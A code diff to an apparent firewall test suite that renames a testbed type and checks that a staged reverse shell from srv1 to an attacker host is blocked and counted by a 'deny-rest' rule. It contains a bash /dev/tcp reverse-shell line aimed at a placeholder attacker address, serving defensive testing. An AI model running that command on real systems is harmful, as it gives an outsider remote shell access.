@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import pytest
-from beds import Bed, Commands
+from beds import Commands, RunningTestbed
 
 from topo.plan import plan
 from topo.profile import Profile
@@ -25,7 +25,7 @@ print(caller.recv(100).decode().strip())
 SHELL = f"exec bash >& /dev/tcp/{ATTACKER}/{PORT} 0>&1"
 
 
-def called_home(bed: Bed) -> str:
+def called_home(bed: RunningTestbed) -> str:
     """What the attacker hears of a shell that srv1 sends him."""
     argv = ("exec", "--name", bed.name, "attacker", "--", "python3", "-c", LISTEN, PORT)
     with bed.commands.popen(*argv) as process:
@@ -36,7 +36,7 @@ def called_home(bed: Bed) -> str:
         return heard.strip() or said.strip()
 
 
-def test_a_reverse_shell_is_stopped_and_counted(bed: Bed) -> None:
+def test_a_reverse_shell_is_stopped_and_counted(bed: RunningTestbed) -> None:
     before = bed.counter("fw1", "deny-rest")
     assert called_home(bed) == "nobody called"
     assert bed.counter("fw1", "deny-rest") > before
